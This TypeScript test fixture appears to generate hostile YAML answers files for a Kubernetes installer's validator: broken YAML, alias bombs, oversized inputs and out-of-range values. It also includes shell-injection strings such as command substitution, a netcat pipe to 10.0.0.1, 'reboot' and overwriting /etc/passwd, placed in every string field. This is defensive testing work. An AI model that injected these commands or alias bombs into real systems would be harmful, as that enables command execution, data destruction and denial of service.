// More than 500 invalid or malicious answers files: broken YAML, alias bombs, huge strings, wrong
// types, out-of-range numbers, overlapping CIDRs, and shell metacharacters in every string field.
import { readFileSync } from 'node:fs';
import { parse, stringify } from 'yaml';
import { assetPath } from '../../src/package-root.js';

export interface HostileCase {
  name: string;
  content: string | Buffer;
}

type Plain = Record<string, unknown>;
const seed = (): Plain => parse(readFileSync(assetPath('examples/seed-cluster.yaml'), 'utf8')) as Plain;

function setPath(obj: Plain, path: (string | number)[], value: unknown): Plain {
  const copy = structuredClone(obj);
  let cur = copy as Record<string | number, unknown>;
  for (const k of path.slice(0, -1)) {
    cur[k] ??= typeof path[path.indexOf(k) + 1] === 'number' ? [] : {};
    cur = cur[k] as Record<string | number, unknown>;
  }
  cur[path.at(-1)!] = value;
  return copy;
}

/** Every string field of the answers, including the optional ones operators may add. */
const STRING_FIELDS: (string | number)[][] = [
  ['apiVersion'],
  ['cluster', 'name'],
  ['cluster', 'kubernetesVersion'],
  ['hosts', 0, 'name'],
  ['hosts', 1, 'address'],
  ['hosts', 3, 'role'],
  ['hosts', 2, 'interface'],
  ['hosts', 4, 'ssh', 'user'],
  ['hosts', 4, 'ssh', 'passwordEnv'],
  ['ssh', 'user'],
  ['ssh', 'passwordEnv'],
  ['ssh', 'sudoPasswordEnv'],
  ['ssh', 'keyPassphraseEnv'],
  ['ssh', 'bastion', 'address'],
  ['ssh', 'bastion', 'user'],
  ['loadBalancer', 'vip'],
  ['loadBalancer', 'interface'],
  ['loadBalancer', 'extraSANs', 0],
  ['network', 'podCIDR'],
  ['network', 'serviceCIDR'],
  ['network', 'cni'],
  ['network', 'proxyMode'],
  ['network', 'dnsDomain'],
  ['mirror'],
  ['mirrorOverrides', 'imageRepository'],
  ['mirrorOverrides', 'kubernetes', 'deb', 'url'],
  ['mirrorOverrides', 'dockerCe', 'rpm', 'baseurl'],
  ['versions', 'containerd'],
  ['versions', 'calico'],
  ['addons', 'dashboard'],
  ['system', 'firewall'],
];

const SHELL_PAYLOADS = [
  '$(touch /tmp/pwned)',
  '`touch /tmp/pwned`',
  'x; touch /tmp/pwned',
  'x | nc 10.0.0.1 9',
  'x && reboot',
  "x'; touch /tmp/pwned; '",
  'x" && touch /tmp/pwned && "',
  'x\ntouch /tmp/pwned',
  '${IFS}touch${IFS}/tmp/pwned',
  'x > /etc/passwd',
];

const NUMBER_FIELDS: (string | number)[][] = [
  ['loadBalancer', 'port'],
  ['loadBalancer', 'virtualRouterId'],
  ['ssh', 'port'],
  ['hosts', 0, 'ssh', 'port'],
  ['ssh', 'bastion', 'port'],
];
const BAD_NUMBERS = [0, -1, 65536, 1.5, 1e10, 256, Number.MAX_SAFE_INTEGER];

export function hostileCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  const add = (name: string, content: string | Buffer) => cases.push({ name, content });
  const doc = (o: Plain) => stringify(o);

  // Broken YAML.
  const text = readFileSync(assetPath('examples/seed-cluster.yaml'), 'utf8');
  const broken = [
    'apiVersion: [',
    'cluster:\n\tname: x',
    'a: b: c',
    '- [unclosed',
    '{',
    'key: "unterminated',
    'hosts:\n  - name: a\n   address: b',
    '? complex\n: key',
    '%YAML 9.9\n---\na: 1',
    '*undefinedAlias',
  ];
  broken.forEach((b, i) => add(`yaml-broken-${i}`, `${b}\n`));
  for (let i = 0; i < 20; i++)
    add(`yaml-truncated-${i}`, text.slice(0, Math.floor((text.length * (i + 1)) / 23)) + '\n  - {');
  add('yaml-duplicate-key', `${text}\ncluster:\n  name: again\n`);
  // Alias bombs of several shapes.
  for (let depth = 4; depth <= 12; depth++) {
    const lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < depth; i++)
      lines.push(
        `l${i}: &l${i} [${Array(9)
          .fill(i === 1 ? '*a' : `*l${i - 1}`)
          .join(',')}]`,
      );
    add(`alias-bomb-${depth}`, lines.join('\n'));
  }
  // Huge inputs.
  add('huge-file', `${text}# ${'x'.repeat(1024 * 1024)}\n`);
  add('huge-name', doc(setPath(seed(), ['cluster', 'name'], 'a'.repeat(100_000))));
  add(
    'huge-hosts',
    doc(
      setPath(
        seed(),
        ['hosts'],
        Array.from({ length: 2000 }, (_, i) => ({
          name: `n${i}`,
          address: `10.${i >> 8}.${i & 255}.1`,
          role: 'worker',
        })),
      ),
    ),
  );
  add('huge-line', `apiVersion: ${'k'.repeat(900_000)}\n`);
  // Binary garbage.
  for (let i = 0; i < 10; i++)
    add(`binary-${i}`, Buffer.from(Array.from({ length: 64 + i * 97 }, (_, j) => (j * 37 + i * 11) % 256)));
  // Wrong types at every field.
  for (const path of [
    ...STRING_FIELDS,
    ...NUMBER_FIELDS,
    ['hosts'],
    ['cluster'],
    ['loadBalancer'],
    ['network'],
    ['ssh'],
  ]) {
    for (const [label, v] of [
      ['number', 42],
      ['array', [1, 2]],
      ['object', { a: 1 }],
      ['null', null],
      ['bool', true],
    ] as const) {
      add(`type-${path.join('.')}-${label}`, doc(setPath(seed(), path, v)));
    }
  }
  // Out-of-range numbers.
  for (const path of NUMBER_FIELDS)
    for (const n of BAD_NUMBERS) {
      if (path.join('.') === 'loadBalancer.virtualRouterId' && n === 65536) continue;
      if (!(path[path.length - 1] === 'virtualRouterId' && n === 256) && n === 256) continue;
      add(`range-${path.join('.')}-${n}`, doc(setPath(seed(), path, n)));
    }
  // Overlapping or impossible CIDRs.
  const net = (p: Plain) => doc({ ...seed(), network: { ...(seed().network as Plain), ...p } });
  for (const [pod, svc] of [
    ['10.254.0.0/16', '10.254.0.0/16'],
    ['172.16.0.0/12', '10.254.0.0/16'],
    ['172.30.0.0/16', '172.30.128.0/20'],
    ['172.30.0.0/26', '10.254.0.0/16'],
    ['0.0.0.0/0', '10.254.0.0/16'],
    ['172.30.0.0/16', '10.0.0.0/8'],
    ['172.16.100.0/24', '10.254.0.0/16'],
    ['172.30.1.0/16', '10.254.0.0/16'],
    ['172.30.0.0/16', '172.16.100.0/28'],
    ['10.0.0.0/8', '10.96.0.0/12'],
  ]) {
    add(`cidr-${pod}-${svc}`, net({ podCIDR: pod, serviceCIDR: svc }));
  }
  add('vip-outside', doc(setPath(seed(), ['loadBalancer', 'vip'], '10.9.9.9/24')));
  add('vip-is-host', doc(setPath(seed(), ['loadBalancer', 'vip'], '172.16.100.100/24')));
  add('even-control-planes', doc(setPath(seed(), ['hosts', 3, 'role'], 'control-plane')));
  add('duplicate-address', doc(setPath(seed(), ['hosts', 4, 'address'], '172.16.100.100')));
  add('eol-version', doc(setPath(seed(), ['cluster', 'kubernetesVersion'], '1.20.12')));
  add('lb-port-6443', doc(setPath(seed(), ['loadBalancer', 'port'], 6443)));
  // Shell metacharacters in every string field.
  for (const path of STRING_FIELDS)
    SHELL_PAYLOADS.forEach((p, i) => add(`shell-${path.join('.')}-${i}`, doc(setPath(seed(), path, p))));
  // A key path with shell characters is only ever a local path; it must not exist, and it is reported.
  SHELL_PAYLOADS.forEach((p, i) =>
    add(
      `shell-identityFile-${i}`,
      doc(setPath(seed(), ['ssh', 'identityFile'], `/nonexistent/${p.replace(/\n/g, ' ')}`)),
    ),
  );
  return cases;
}
